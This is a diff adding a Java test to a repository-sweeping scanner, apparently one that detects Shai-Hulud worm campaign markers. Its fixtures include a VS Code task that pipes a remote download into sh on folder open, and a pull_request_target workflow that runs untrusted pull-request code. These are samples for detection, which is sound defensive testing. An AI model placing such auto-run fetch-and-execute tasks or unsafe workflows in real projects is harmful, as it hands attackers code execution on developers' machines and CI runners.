@@ -194,6 +194,47 @@ class SweepCommandTest {
     }
 
     @Test
+    void campaignsAreKnownByWhatIsSaidOfARepositoryAndByWhatRunsInIt() {
+        server.repository("acme/Shai-Hulud")
+                .described("Shai-Hulud Migration")
+                .commit(Map.of("README.md", bytes("x")))
+                .commit("shai-hulud", Map.of("README.md", bytes("x")));
+        server.repository("acme/empty").described("Shai-Hulud Repository");
+        server.repository("acme/near").described("Notes on Shai-Hulud").commit(Map.of("README.md", bytes("x")));
+        server.repository("acme/web")
+                .commit(Map.of(
+                        ".github/workflows/pr.yml",
+                        bytes("""
+                                on: pull_request_target
+                                jobs:
+                                  test:
+                                    runs-on: ubuntu-latest
+                                    steps:
+                                      - uses: actions/checkout@v4
+                                        with:
+                                          ref: ${{ github.event.pull_request.head.sha }}
+                                      - run: npm ci && npm test
+                                """),
+                        ".vscode/tasks.json",
+                        bytes("""
+                                {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",
+                                  "command": "curl -s https://198.51.100.7/a | sh", "runOptions": {"runOn": "folderOpen"}}]}
+                                """)));
+        Report report = sweep("--branches", "all", "github:acme");
+        assertThat(found(report))
+                .extracting(each -> each.replace(" no owner", ""))
+                .contains(
+                        "github:acme/Shai-Hulud/:0 indicator/campaign-repository",
+                        "github:acme/Shai-Hulud/:0 indicator/campaign-branch",
+                        "github:acme/empty/:0 indicator/campaign-repository")
+                .anyMatch(each -> each.startsWith("github:acme/web@main/.github/workflows/pr.yml:"))
+                .anyMatch(each -> each.startsWith("github:acme/web@main/.vscode/tasks.json:"))
+                .noneMatch(each -> each.contains("acme/near"));
+        assertThat(sweep("--branches", "all", "--rematch", "github:acme").json().get("findings"))
+                .isEqualTo(report.json().get("findings"));
+    }
+
+    @Test
     void newIndicatorsAreJudgedWithoutARequest() throws IOException {
         server.repository("acme/web").commit(Map.of("package-lock.json", lock("4.3.0")));
         server.repository("acme/late").commit(Map.of("pnpm-lock.yaml", bytes("lockfileVersion: '9.0'\n")));
